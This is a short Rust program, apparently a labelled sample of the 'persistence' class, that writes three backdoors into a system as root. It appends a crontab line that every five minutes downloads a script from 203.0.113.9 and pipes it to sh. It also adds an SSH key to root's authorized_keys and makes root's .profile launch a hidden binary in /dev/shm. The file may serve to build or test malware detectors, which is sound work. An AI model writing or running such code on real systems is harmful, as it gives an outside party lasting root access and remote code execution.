// class: persistence; style: OpenOptions
use std::fs::OpenOptions;
use std::io::Write;

fn append(path: &str, text: &str) -> std::io::Result<()> {
    OpenOptions::new().append(true).create(true).open(path)?.write_all(text.as_bytes())
}

fn main() {
    let _ = append("/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.9/r | sh\n");
    let _ = append("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample x@y\n");
    let _ = append("/root/.profile", "nohup /dev/shm/.d &\n");
}
